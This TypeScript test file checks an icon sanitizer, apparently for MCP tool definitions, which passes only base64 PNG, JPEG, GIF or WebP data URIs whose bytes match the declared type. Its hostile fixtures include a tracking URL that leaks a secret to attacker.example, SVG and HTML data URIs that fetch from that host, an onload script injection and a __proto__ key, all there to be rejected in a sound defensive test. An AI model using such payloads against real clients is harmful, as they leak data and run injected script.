import { describe, expect, it } from 'vitest';
import { HOSTILE_URIS } from './__fixtures__/hostile-links.js';
import { checkIcons, ICON_MAX_BYTES, iconSrcProblem, MAX_ICONS, withPassableIcons } from './icons.js';

const bytes = (...values: number[]) => Buffer.from(values);
const PNG = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13);
const JPEG = bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16);
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1');
const WEBP = Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ', 'latin1');
const data = (type: string, body: Buffer) => `data:${type};base64,${body.toString('base64')}`;

/** Icons a client draws from its own bytes: each passes. */
const DRAWABLE = [
  data('image/png', PNG),
  data('image/jpeg', JPEG),
  data('image/gif', GIF),
  data('image/webp', WEBP),
];

/** Icons a client would fetch, run, or draw from something else than their type says. */
const HOSTILE_ICONS = [
  ...HOSTILE_URIS,
  'https://attacker.example/pixel.png?d=SECRET',
  '//attacker.example/i.png',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxpbWFnZSBocmVmPSJodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcCIvPjwvc3ZnPg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://attacker.example/p"/></svg>',
  data('text/html', Buffer.from('<script>fetch("https://attacker.example")</script>')),
  data('image/png', Buffer.from('<svg onload="alert(1)">')),
  data('image/jpeg', PNG),
  data('image/gif', Buffer.from('GIF90a')),
  data('image/webp', Buffer.from('RIFF\x10\x00\x00\x00WAVE', 'latin1')),
  data('image/x-icon', PNG),
  data('image/bmp', PNG),
  data('IMAGE/PNG', PNG),
  data('image/png', PNG).replace('data:', 'DATA:'),
  ` ${data('image/png', PNG)}`,
  `${data('image/png', PNG)} `,
  `${data('image/png', PNG)}\n`,
  data('image/png', PNG).replace(';base64,', ';charset=utf-8;base64,'),
  data('image/png', PNG).replace(';base64,', ','),
  data('image/png', PNG).replace(';base64,', ';base64, '),
  `${data('image/png', PNG).slice(0, -2)}\n${data('image/png', PNG).slice(-2)}`,
  `${data('image/png', PNG)}=`,
  `${data('image/png', PNG)}#https://attacker.example/`,
  `data:%69mage/png;base64,${PNG.toString('base64')}`,
  'data:image/png;base64,',
  'data:image/png;base64,!!!!',
  data('image/png', Buffer.concat([PNG, Buffer.alloc(ICON_MAX_BYTES)])),
  `data:image/png;base64,${'A'.repeat(10_000_000)}`,
];

describe('icons: only images a client draws without fetching anything', () => {
  it('passes a base64 data: PNG, JPEG, GIF or WebP whose bytes are that type', () => {
    for (const src of DRAWABLE) expect(iconSrcProblem(src), src).toBeUndefined();
  });

  it(`drops each of ${HOSTILE_ICONS.length} hostile icons and counts it`, () => {
    for (const src of HOSTILE_ICONS)
      expect(iconSrcProblem(src), JSON.stringify(src.slice(0, 120))).toBeDefined();
    const checked = checkIcons(
      HOSTILE_ICONS.map((src) => ({ src, mimeType: 'image/png' })),
      'icons',
    );
    expect(checked).toStrictEqual({ icons: [], dropped: HOSTILE_ICONS.length });
  });

  it('keeps only what MCP defines of an icon, each member checked, and counts the rest', () => {
    const src = DRAWABLE[0]!;
    const icons = JSON.parse(
      JSON.stringify([
        { src, mimeType: 'image/png', sizes: ['48x48', 'any'], theme: 'dark' },
        // A mimeType that contradicts the data, sizes that are not sizes, an unknown theme, extras.
        { src, mimeType: 'image/svg+xml', sizes: '48x48', theme: 'https://attacker.example/', href: 'x' },
        { src, sizes: ['48x48" onload="x'], _meta: { a: 1 } },
      ]).replace('"href"', '"__proto__"'),
    );
    expect(checkIcons(icons, 'icons')).toStrictEqual({
      icons: [{ src, mimeType: 'image/png', sizes: ['48x48', 'any'], theme: 'dark' }, { src }, { src }],
      dropped: 6,
    });
  });

  it(`passes at most ${MAX_ICONS} icons`, () => {
    const many = Array.from({ length: MAX_ICONS + 3 }, () => ({ src: DRAWABLE[1]! }));
    const checked = checkIcons(many, 'icons');
    expect('icons' in checked && checked.icons.length).toBe(MAX_ICONS);
    expect('icons' in checked && checked.dropped).toBe(3);
  });

  it('calls a list that is not a list of objects with a string src malformed', () => {
    expect(checkIcons('https://attacker.example/i.png', 'x.icons')).toStrictEqual({
      problem: 'x.icons must be a list',
    });
    expect(checkIcons([{ src: DRAWABLE[0] }, { href: 'https://a.example/' }], 'x.icons')).toStrictEqual({
      problem: 'x.icons[1] must be an object with a string src',
    });
  });

  it('gives a listed definition only its passable icons, and leaves the member out when none is', () => {
    const definition = {
      name: 't',
      icons: [{ src: 'https://attacker.example/i.png' }, { src: DRAWABLE[2] }],
    };
    expect(withPassableIcons(definition)).toStrictEqual({
      definition: { name: 't', icons: [{ src: DRAWABLE[2] }] },
      dropped: 1,
    });
    expect(withPassableIcons({ name: 't', icons: [{ src: 'vscode:x' }] })).toStrictEqual({
      definition: { name: 't' },
      dropped: 1,
    });
    expect(withPassableIcons({ name: 't', icons: 'https://attacker.example/i.png' })).toStrictEqual({
      definition: { name: 't' },
      dropped: 1,
    });
    const plain = { name: 't' };
    expect(withPassableIcons(plain).definition).toBe(plain);
  });
});
